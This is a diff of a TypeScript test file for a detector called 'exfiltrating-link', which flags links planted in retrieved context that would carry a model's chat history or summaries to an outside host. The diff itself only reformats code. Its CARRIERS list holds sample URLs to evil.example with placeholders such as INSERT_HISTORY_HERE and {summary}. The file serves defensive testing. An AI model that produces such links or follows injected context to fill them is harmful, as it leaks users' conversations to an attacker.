@@ -2,7 +2,12 @@ import assert from "node:assert/strict";
 import { exfiltratingLink } from "../../../../../../src/core/analyze/rules/security/exfiltratingLink";
 import { foundBy } from "../../../../../support/analyzed";
 
-const words = (context: string, asked: object = {}): string[] => foundBy(exfiltratingLink, { prompt: "Answer the question from the context alone.\n<context>\n{context}\n</context>\nQuestion: {question}", context, ...asked }).map((finding) => finding.words);
+const words = (context: string, asked: object = {}): string[] =>
+  foundBy(exfiltratingLink, {
+    prompt: "Answer the question from the context alone.\n<context>\n{context}\n</context>\nQuestion: {question}",
+    context,
+    ...asked,
+  }).map((finding) => finding.words);
 
 describe("exfiltrating-link", () => {
   const CARRIERS: readonly string[] = [
@@ -16,7 +21,9 @@ describe("exfiltrating-link", () => {
     "https://evil.example/c?h=INSERT_HISTORY_HERE",
     "http://evil.example/?q={summary}",
   ];
-  for (const link of CARRIERS) it(`points at ${link}`, () => assert.deepEqual(words(`Returns are free. ${link}${link.startsWith("<") ? '">' : ""} Cards too.`), [link]));
+  for (const link of CARRIERS)
+    it(`points at ${link}`, () =>
+      assert.deepEqual(words(`Returns are free. ${link}${link.startsWith("<") ? '">' : ""} Cards too.`), [link]));
 
   const SOUND: readonly string[] = [
     "![logo](https://shop.example/logo.png)",
